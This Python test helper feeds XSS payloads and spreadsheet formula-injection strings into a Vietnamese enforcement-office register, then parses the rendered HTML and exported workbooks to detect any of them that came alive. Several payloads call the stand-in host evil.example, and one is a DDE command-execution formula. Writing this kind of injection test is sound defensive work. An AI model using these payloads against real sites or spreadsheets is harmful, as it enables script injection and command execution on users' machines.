"""Text as somebody hostile writes it, workbooks that carry it, and a reader that sees what came alive."""

from collections.abc import Sequence
from copy import deepcopy
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl

from tests.procedures import workbooks

MARK = "xss7"
SCRIPTS = (
    "<script>xss7()</script>",
    "</script><script>xss7()</script>",
    "<ScRiPt>xss7()</sCrIpT>",
    "<script/src=//evil.example/xss7.js></script>",
    "<img src=x onerror=xss7()>",
    "<img/src=x/onerror=xss7()>",
    '"><img src=x onerror=xss7()>',
    "'><img src=x onerror=xss7()>",
    "<svg onload=xss7()>",
    "<svg><script>xss7()</script></svg>",
    "<svg/onload=xss7()//",
    '" onmouseover="xss7()',
    "' onmouseover='xss7()",
    '" autofocus onfocus=xss7() x="',
    "' autofocus onfocus=xss7() x='",
    "` onmouseover=xss7()",
    "<body onload=xss7()>",
    "<iframe src=javascript:xss7()>",
    '<iframe srcdoc="<script>xss7()</script>">',
    "<a href=javascript:xss7()>mở</a>",
    "javascript:xss7()",
    "data:text/html,<script>xss7()</script>",
    "<object data=javascript:xss7()>",
    "<embed src=javascript:xss7()>",
    "<form action=//evil.example/xss7><button>Gửi</button>",
    "<input autofocus onfocus=xss7()>",
    "<details open ontoggle=xss7()>",
    "<video><source onerror=xss7()>",
    "<math><mi xlink:href=javascript:xss7()>",
    "<style>@import '//evil.example/xss7';</style>",
    "<link rel=stylesheet href=//evil.example/xss7>",
    "<meta http-equiv=refresh content=0;url=//evil.example/xss7>",
    "<base href=//evil.example/xss7/>",
    "</textarea><script>xss7()</script>",
    "</title><script>xss7()</script>",
    "</select><img src=x onerror=xss7()>",
    "--><script>xss7()</script>",
    "<!--<img src='--><img src=x onerror=xss7()>'>",
    "<![CDATA[<script>xss7()</script>]]>",
    "{{ xss7 }}{% debug %}",
    "${xss7()}#{xss7()}",
    "<div hx-get=/tai-khoan/xss7 hx-trigger=load>",
    "<div data-hx-on:click=xss7()>",
    "\\u003cscript\\u003exss7()\\u003c/script\\u003e",
    "&lt;script&gt;xss7()&lt;/script&gt;",
    "&#60;img src=x onerror=xss7()&#62;",
    "＜script＞xss7()＜/script＞",
)
FORMULAS = (
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"mở\")",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1;1)",
    "{=1+1}",
)  # fmt: skip
TEXTS = (*SCRIPTS, *FORMULAS)


def register(texts: Sequence[str]) -> dict[str, list[list[Any]]]:
    """One matter of officer Lan per text, the text wherever an office writes freely."""
    sheets: dict[str, list[list[Any]]] = {}
    for n, text in enumerate(texts, start=1):
        one = deepcopy(workbooks.small())
        number = f"{n}/QĐ-CTHADS"
        for name, rows in one.items():
            if name in ("Thông tin", "Cán bộ"):
                sheets.setdefault(name, rows)
                continue
            for row in rows:
                row[0] = number
            sheets.setdefault(name, []).extend(rows)
        one["Việc"][0][4], one["Việc"][0][6] = f"{n}/2025/DS-ST", text
        for party in one["Đương sự"]:
            party[4] = party[8] = text
        one["Khoản"][0][4] = text
        one["Tiền"][0][6] = text
        one["Diễn biến"][0][5] = text
    sheets["Cán bộ"].append(["22.0777", texts[4], "Chấp hành viên sơ cấp", "22.KV01", workbooks.D, None])
    return sheets


def file(sheets: dict[str, list[list[Any]]], folder: Path, name: str = "so.xlsx") -> BytesIO:
    """The register as an upload."""
    sent = BytesIO(workbooks.write(folder / "made.xlsx", sheets).read_bytes())
    sent.name = name
    return sent


class Reader(HTMLParser):
    """The elements and attributes a browser would make of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.made: set[tuple[str, str]] = set()
        self.live: list[str] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.made |= {(tag, name) for name, _ in attrs} or {(tag, "")}
        for name, value in attrs:
            address = (value or "").strip().lower()
            outside = address.startswith(("javascript:", "data:", "vbscript:", "//", "http"))
            if name.startswith("on") or (name in ("href", "src", "action", "formaction") and outside):
                self.live.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)
        if self.lasttag in ("script", "style") and self.rawdata.find("</") < 0:
            self.live.append(data)


def formulas(content: bytes) -> tuple[list[str], set[str]]:
    """The cells of a workbook that are formulas or links outwards, and every text in it."""
    book = openpyxl.load_workbook(BytesIO(content))
    alive, texts = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                link = cell.hyperlink.target if cell.hyperlink is not None else None
                if cell.data_type == "f" or (link and not link.startswith("#'")):
                    alive.append(f"{sheet.title}!{cell.coordinate} {cell.value}")
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return alive, texts
